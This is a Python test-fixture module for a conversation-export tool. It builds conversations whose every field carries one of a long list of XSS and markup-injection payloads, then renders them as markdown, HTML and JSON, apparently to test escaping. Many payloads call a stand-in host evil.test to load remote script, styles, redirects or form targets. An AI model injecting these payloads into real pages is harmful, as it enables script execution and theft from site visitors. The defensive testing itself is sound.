"""Conversations made to be put on a page, harmless and not, and the forms a page has."""

from __future__ import annotations

import base64
from typing import Any

from recollect.export.pages.briefing import Briefing, Origin, brief, json_object, markdown
from recollect.export.pages.html import html
from recollect.values.conversation import Block, Conversation, Message
from recollect.values.text import ascii_json

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode("ascii")


PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x` onerror=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    "<link rel=stylesheet href=//evil.test/x>",
    "<style>@import '//evil.test/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></details></article></main><h1>owned</h1>",
    "</summary></details><form action=//evil.test>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form><button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](http://evil.test/pixel.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><p>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x00script>alert(1)</script>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src=x\u2028onerror=alert(1)>",
    "\u202e<script>alert(1)</script>\u202c",
    "\ud800<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<textarea><script>",
    "<x onclick=alert(1)>x</x>",
    "<div style='background:url(//evil.test/x)'>",
    "<div style=width:expression(alert(1))>",
    "x; url(//evil.test/x)",
    "'; default-src *; script-src 'unsafe-inline",
    "<table background=//evil.test/x>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<portal src=//evil.test>",
    "\x1b]8;;http://evil.test\x1b\\x",
)


def conversation(evil: str) -> Conversation:
    """A conversation with the same text in every field that a log or a person fills."""
    call = {"type": "tool_use", "id": evil, "name": evil, "input": {evil: evil, "file_path": f"/home/{evil}"}}
    parts = [
        {"type": "text", "text": evil},
        {"type": "image", "source": {"type": "base64", "media_type": evil}},
    ]
    result = {"type": "tool_result", "tool_use_id": evil, "content": parts, "is_error": True}
    said = ({"type": "text", "text": evil}, {"type": "thinking", "thinking": evil, "signature": evil}, call)
    document = {
        "type": "document",
        "source": {"type": "text", "media_type": evil, "data": evil},
        "title": evil,
    }
    picture = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}}
    elsewhere = {"type": "image", "source": {"type": "url", "url": evil, "media_type": evil, "data": evil}}
    asked = tuple(
        Block(body, evil) for body in ({"type": "text", "text": evil}, document, picture, elsewhere)
    )
    return Conversation(
        (
            Message("user", asked, evil, evil, 1),
            Message("assistant", tuple(Block(body, evil) for body in said), evil, evil, 2, evil, evil),
            Message("user", (Block(result, evil),), evil, evil, 3),
            Message("user", (Block({"type": "text", "text": evil}),), evil, evil, 4, note=True),
            Message("user", (Block({"type": "text", "text": evil}),), evil, evil, 5, meta=True),
        ),
        evil,
        evil,
        evil,
        evil,
        (evil,),
    )


def briefing(evil: str, *, redacted: bool = False) -> Briefing:
    sessions = [Origin(evil, evil, evil, evil, 1)]
    return brief(
        conversation(evil), title=evil, description=evil, sessions=sessions, notes=[evil], redacted=redacted
    )


def text(words: str, role: Any = "user", **fields: Any) -> Message:
    return Message(role, (Block({"type": "text", "text": words}, "e1"),), "claude", "s1", **fields)


def call(name: str, id: str, **given: Any) -> Block:
    return Block({"type": "tool_use", "id": id, "name": name, "input": given}, "c" + id)


def result(id: str, content: Any, *, failed: bool = False) -> Block:
    return Block({"type": "tool_result", "tool_use_id": id, "content": content, "is_error": failed}, "r" + id)


def told(*messages: Message, **head: Any) -> Briefing:
    return brief(Conversation(messages, "A title", "/home/ada/harbor", "harbor", "main", ("claude",)), **head)


def forms(found: Briefing) -> list[str]:
    return [markdown(found), html(found), ascii_json(json_object(found))]
